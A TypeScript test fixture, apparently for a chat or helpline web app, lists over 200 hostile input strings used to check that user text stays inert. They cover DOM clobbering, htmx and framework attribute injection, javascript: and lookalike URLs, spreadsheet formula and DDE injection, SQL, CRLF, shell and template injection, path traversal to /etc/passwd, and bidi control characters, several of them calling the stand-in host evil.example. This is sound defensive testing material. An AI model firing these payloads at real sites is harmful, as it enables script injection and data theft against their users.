import { breakingOut, elements } from "./payloads-markup.ts";

// What attackers write where words are expected, besides markup (payloads-markup.ts).

/** Names that would get in the way of our scripts. */
const clobbering = [
  "<a data-planted id=log></a><a id=log name=last href='//evil.example/'></a>",
  "<form data-planted id=say><input name=onsubmit><input name=elements></form>",
  "<img data-planted name=getElementById>",
  "<img data-planted name=querySelector><img name=cookie>",
  "<form data-planted name=body><img name=firstChild></form>",
  "<a data-planted id=hit><a id=hit name=url href='//evil.example/'>",
  "<a data-planted id=leave data-exit=//evil.example/ href=//evil.example/>Leave</a>",
  "<b data-planted id=console data-offline=x></b>",
  "<input data-planted id=text name=text value=planted>",
  "<li data-planted class='m them' id=m1 data-seq=1><b>Mika</b><p>Call me</p></li>",
  "<div data-planted id=over></div><div id=state class=ended data-v=9></div>",
  "<b data-planted id=__proto__></b><b id=constructor></b>",
  "<iframe data-planted name=trustedTypes></iframe><iframe name=htmx></iframe>",
];

/** What htmx 4 would obey. */
const forHtmx = [
  "<b data-planted hx-get=/staff/me hx-trigger=load>x</b>",
  "<b data-planted hx-post=/staff/sign-out hx-trigger=load>x</b>",
  "<b data-planted data-hx-post=/staff/sign-out data-hx-trigger=load>x</b>",
  "<b data-planted hx-get=//evil.example/ hx-trigger='every 1s'>x</b>",
  "<b data-planted hx-on:load='hit()' hx-on::after-process='hit()'>x</b>",
  "<b data-planted hx-on:click=hit() hx-on='load: hit()'>x</b>",
  "<b data-planted hx-trigger='load[hit()]' hx-get=/staff>x</b>",
  "<b data-planted hx-vals='js:{x:hit()}' hx-get=/staff hx-trigger=load>x</b>",
  "<b data-planted hx-headers='js:{x:hit()}' hx-get=/staff hx-trigger=load>x</b>",
  "<b data-planted hx-action=javascript:hit() hx-trigger=load>x</b>",
  "<b data-planted hx-live='hit()'>x</b>",
  "<b data-planted hx-config='{\"allowEval\":true}'>x</b>",
  "<div data-planted hx-ws:connect=//evil.example/ws hx-ext=ws>x</div>",
  "<div data-planted ws-connect=//evil.example/ws>x</div>",
  "<div data-planted sse-connect=//evil.example/sse>x</div>",
  "<div data-planted hx-boost=true><a href=/staff>x</a></div>",
  "<hx-partial data-planted hx-target=#queue hx-swap=delete></hx-partial>",
  "<hx-partial data-planted hx-target=body hx-swap=innerHTML><b>planted</b></hx-partial>",
  "<template data-planted hx type=partial hx-target=#console></template>",
  "<div data-planted id=queue hx-swap-oob=true>gone</div>",
  "<div data-planted id=bar hx-swap-oob=delete></div>",
  "<b data-planted _='on load hit()' x-init=hit() v-on:mount=hit() ng-init=hit()>x</b>",
];

/** Addresses that are no addresses. */
export const addresses = [
  "javascript:hit()",
  "JaVaScRiPt:hit()",
  " javascript:hit()",
  "java\tscript:hit()",
  "java\nscript:hit()",
  "javascript&colon;hit()",
  "javascript://example.org/%0ahit()",
  "\u0001javascript:hit()",
  "vbscript:hit()",
  "data:text/html,<script>hit()</script>",
  "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=hit()>",
  "blob:https://evil.example/1",
  "filesystem:https://evil.example/1",
  "intent://evil.example/#Intent;scheme=https;end",
  "file:///etc/passwd",
  "view-source:https://evil.example/",
  "https://evil.example/meet-me",
  "//evil.example/",
  "\\\\evil.example\\x",
  "https:evil.example",
  "https://helpline.test@evil.example/",
  "https://\u0435vil.example/",
  "www.evil.example",
  "evil.example/x?y=1#z",
  "mailto:evil@evil.example?bcc=all@evil.example",
  "tel:*%2306%23",
  "sms:+32470000000&body=x",
  "tg://resolve?domain=evil",
  "<a data-planted href='javascript:hit()'>tap</a>",
  "<a data-planted href=//evil.example/ target=_top ping=//evil.example/p>tap</a>",
  "[tap](javascript:hit())",
  "![x](https://evil.example/i.png)",
  "<https://evil.example/>",
  "@font-face{src:url(https://evil.example/f)}",
];

/** What a spreadsheet would compute. */
export const formulas = [
  '=HYPERLINK("https://evil.example/","tap")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1+1)",
  "\uff1d1+1",
];

/** What template languages would read in it. */
const templates = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the very thing that must stay text
  "${hit()}",
  "{{hit()}} {{constructor.constructor('hit()')()}}",
  "<%= hit() %> <% hit() %> #{hit()} {%raw%}",
  "{alias} {n, plural, one {x} other {y}} '{'",
  "</><link>x</link> <b>x</b>",
  "__proto__[x]=1 constructor.prototype.x=1",
  '{"__proto__":{"hit":1},"then":"hit()"}',
  "'); DROP TABLE message; --",
  '" OR ""="',
  "BEGIN:VCARD\nEND:VCARD",
  "x\r\nSet-Cookie: s=planted\r\n\r\n<b data-planted>",
  "x\r\nBcc: evil@evil.example",
  "() { :; }; hit()",
  "$(hit) `hit` | hit ; hit",
  "../../../../etc/passwd",
  "%00 %0a %n %s %d",
];

/** No markup, but it moves, hides or breaks what stands beside it. */
const letters = [
  "\u202emoc.live",
  "\u202e\u202e\u202etfel",
  "\u2067evil\u2066 left",
  "\u2069\u202eafter the end of an isolate",
  "\u2069\u2069\u2069\u202c\u202c\u202etwice",
  "\u200f\u200fright\u200e",
  "\u061c\u202bembedded",
  "\u202dover\u202c\u202eride",
  "\u05d0\u05d1\u05d2 (left) \u0627\u0628",
  "\u200b\u200c\u200d\u2060\ufeffnothing seen",
  "\u2028line\u2029paragraph",
  "\u0000null\u0000",
  "\u001b[31mred\u001b[0m \u001b]0;title\u0007",
  "\u001b]8;;https://evil.example/\u0007tap\u001b]8;;\u0007",
  "\u009b31mred\u0085\u007f\b\b\b",
  "\u0300\u0301\u0302 from nothing",
  `Z${"\u0310\u0489\u035c".repeat(1200)}algo`,
  `Z${"\u0310\u0489\u035c".repeat(30)}alg`,
  "\ufdfd\ufdfd\ufdfd\ufdfd \u{12031} \ua9c5",
  "\u{e0068}\u{e0069}\u{e0074} tags",
  "\ufff9\ufffaruby\ufffb \ufffc \ufffd",
  "\ud83d lone \ude00",
  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}\u200d\u{1f466}",
  "\u3164\u2800\u00ad\u034f\u180e",
  `${"\u2067".repeat(130)}deep`,
  `wide${"W".repeat(3900)}`,
];

/** All of them: more than 200, none twice. */
export const payloads: readonly string[] = [
  ...elements,
  ...breakingOut,
  ...clobbering,
  ...forHtmx,
  ...addresses,
  ...templates,
  ...formulas,
  ...letters,
];

/** Returns all in sequence, in pieces of at most `most` characters, for fields that hold one text. */
export function batches(most: number, of: readonly string[] = payloads): string[] {
  const made: string[] = [];
  for (const one of of.filter(({ length }) => length < most)) {
    const joined = made.length > 0 ? `${made.at(-1)} ${one}` : one;
    if (made.length > 0 && joined.length <= most) made[made.length - 1] = joined;
    else made.push(one);
  }
  return made;
}
